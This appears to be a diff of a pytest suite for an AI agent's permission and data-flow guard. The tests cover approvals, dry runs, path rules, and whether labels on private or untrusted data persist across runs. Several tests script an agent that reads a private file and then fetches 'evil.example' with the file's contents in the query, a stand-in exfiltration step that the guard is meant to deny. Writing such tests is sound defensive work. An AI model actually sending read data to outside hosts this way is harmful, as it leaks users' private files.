@@ -33,8 +33,8 @@ def decisions(replies, prompt="go", **options):
     return [(decision.verdict.value, decision.rule) for decision in helper.run(prompt).decisions], helper
 
 
-def test_private_data_does_not_leave_unasked():
-    """After a page and a file were read, fetching an invented address is asked for and, with nobody there, refused."""
+def test_private_data_is_not_sent_without_approval():
+    """After untrusted and private data were read, a request to a new address is denied without approval."""
     replies = [call("fetch", url="https://a.example/"), call("read", path="plan.txt")]
     leak = call("fetch", url="https://evil.example/?q=content+of+plan")
     found, helper = decisions([*replies, leak, "Done."])
@@ -44,8 +44,8 @@ def test_private_data_does_not_leave_unasked():
     assert "read({" in told
 
 
-def test_what_was_read_is_remembered_across_runs():
-    """The danger does not end with the run: what was read is still in the conversation; a reset forgets both."""
+def test_labels_persist_across_runs():
+    """Labels of data that was read persist across runs until the agent is reset."""
     replies = [[call("fetch", url="https://a.example/"), call("read", path="plan.txt")], "Read."]
     leak = [call("fetch", url="https://evil.example/?q=plan"), "Done."]
     found, helper = decisions([*replies, *leak, *leak])
@@ -65,8 +65,8 @@ def test_address_that_the_person_gave_is_fetched():
     assert found[-1][0] == "allow"
 
 
-def test_denied_calls_have_read_nothing():
-    """A call that was refused brought nothing into the conversation."""
+def test_denied_calls_add_no_labels():
+    """A denied call adds no labels to the conversation."""
     replies = [
         call("fetch", url="https://a.example/"),
         call("read", path="plan.txt"),
@@ -77,8 +77,8 @@ def test_denied_calls_have_read_nothing():
     assert [verdict for verdict, _ in found] == ["allow", "deny", "allow"]
 
 
-def test_flow_rule_can_be_given_up():
-    """A developer who trusts what is read can switch the flow rule off, and nobody else can."""
+def test_flow_rule_can_be_disabled():
+    """A policy with `flow=False` disables the flow rule."""
     replies = [call("fetch", url="https://a.example/"), call("read", path="p"), call("fetch", url="https://b.example/")]
     found, _ = decisions([*replies, "Done."], policy=Policy(flow=False))
     assert [verdict for verdict, _ in found] == ["allow"] * 3
@@ -96,8 +96,8 @@ def test_rules_of_the_developer_come_first():
     assert "Not there." in helper.history[2]["content"]
 
 
-def test_level_is_given_once():
-    """A policy has its level; another one beside it is refused."""
+def test_conflicting_safety_levels_are_rejected():
+    """A policy defines its level, and a different `safety` argument raises ConfigError."""
     assert Agent("a", policy=Policy("SYSTEM"), safety="SYSTEM").policy.level is SafetyLevel.SYSTEM
     assert Agent("a", policy=Policy("SAFE")).policy.level is SafetyLevel.SAFE
     with pytest.raises(ConfigError, match="level once"):
@@ -109,8 +109,8 @@ def test_level_is_given_once():
 @pytest.mark.parametrize(
     ("answer", "asked"), [(Approval.ONCE, 6), (True, 6), (Approval.RUN, 2), (Approval.ALWAYS, 1), (Approval.NO, 6)]
 )
-def test_approval_lasts_as_long_as_was_said(answer, asked):
-    """Once is once; for this run covers its later calls of the pattern, in one answer too; always covers all runs."""
+def test_duration_of_an_approval(answer, asked):
+    """An approval lasts for one call, for the run, or for all runs, as the approver chose."""
     questions = []
 
     def approve(request):
@@ -129,7 +129,7 @@ def test_approval_lasts_as_long_as_was_said(answer, asked):
 
 
 def test_approval_for_the_run_covers_its_pattern_only():
-    """A call with other arguments is asked about again."""
+    """An approval for the run does not cover calls with other arguments."""
     questions = []
 
     def approve(request):
@@ -142,8 +142,8 @@ def test_approval_for_the_run_covers_its_pattern_only():
     assert questions == [{"path": "x"}, {"path": "y"}]
 
 
-def test_approver_is_told_the_folder(tmp_path):
-    """An approval is bound to the folder in which the call would happen."""
+def test_approval_request_contains_the_folder(tmp_path):
+    """An approval request contains the folder of the call."""
     folders = []
 
     def approve(request):
@@ -156,14 +156,14 @@ def test_approver_is_told_the_folder(tmp_path):
     assert folders == [str(tmp_path)]
 
 
-def test_dry_run_asks_about_what_happens_all_the_same():
-    """In a dry run files are written in memory only, unasked; what is sent is sent, and asked about as ever."""
+def test_dry_run_still_asks_about_network_calls():
+    """In a dry run, a call with an effect outside the workspace still needs permission."""
     found, _ = decisions([call("fetch", url="https://a.example/"), "Done."], safety="SAFE", dry_run=True)
     assert found == [("deny", "safety-level")]
 
 
-def test_dry_run_does_not_run_what_it_cannot_foresee():
-    """In a dry run a tool that changes this machine in ways nobody can tell is not run, even with a yes."""
+def test_dry_run_denies_tools_with_unknown_effects():
+    """In a dry run, a tool with unknown effects is denied even if it is approved."""
     ran = []
 
     def erase(path: str) -> None:
@@ -181,8 +181,8 @@ def test_dry_run_does_not_run_what_it_cannot_foresee():
 
 
 @pytest.mark.parametrize("path", ["notes.txt", "./notes.txt", "sub/../notes.txt", "{folder}/notes.txt"])
-def test_rule_on_a_path_holds_for_every_spelling(tmp_path, path):
-    """What is denied under one name is denied under all names of the same file."""
+def test_path_rule_applies_to_every_spelling(tmp_path, path):
+    """A rule on a path applies to every spelling of the path."""
     (tmp_path / "notes.txt").write_text("private")
     policy = Policy(rules=[Rule("deny", "read_file", {"path": "notes.txt"})])
     llm = ScriptedLLM(call("read_file", path=path.format(folder=tmp_path)), "Done.")
@@ -190,8 +190,8 @@ def test_rule_on_a_path_holds_for_every_spelling(tmp_path, path):
     assert [decision.verdict.value for decision in result.decisions] == ["deny"]
 
 
-def test_words_of_a_refused_answer_are_nobodys():
-    """What a model has answered, and was told of it as its user, the person has not said."""
+def test_rejected_answer_does_not_count_as_user_text():
+    """Text of a rejected answer does not count as said by the user."""
     rule = Rule("allow", "read", {"path": {"said": True}})
     replies = ["Eve's plan", call("read", path="Eve's plan"), call("read", path="mine"), "3"]
     reader = Agent(
@@ -214,8 +214,8 @@ POST = Tool.from_schema(
 
 @pytest.mark.parametrize("rules", [[], [Rule("allow", "post", {"to": {"said": True}})]])
 @pytest.mark.parametrize("value", ["Ann", ""])
-def test_names_that_a_tool_does_not_know_are_words_of_the_model(rules, value):
-    """A tool that takes any argument could be told by the argument's name what must not leave."""
+def test_unknown_argument_names_are_checked_by_the_flow_rule(rules, value):
+    """Unknown argument names count as text of the model in the flow rule."""
     secret = call("post", {"to": "Ann", "content of plan": value})
     read = Tool(read_all, labels=["private", "untrusted"])
     llm = ScriptedLLM(call("read_all"), secret, "Done.")
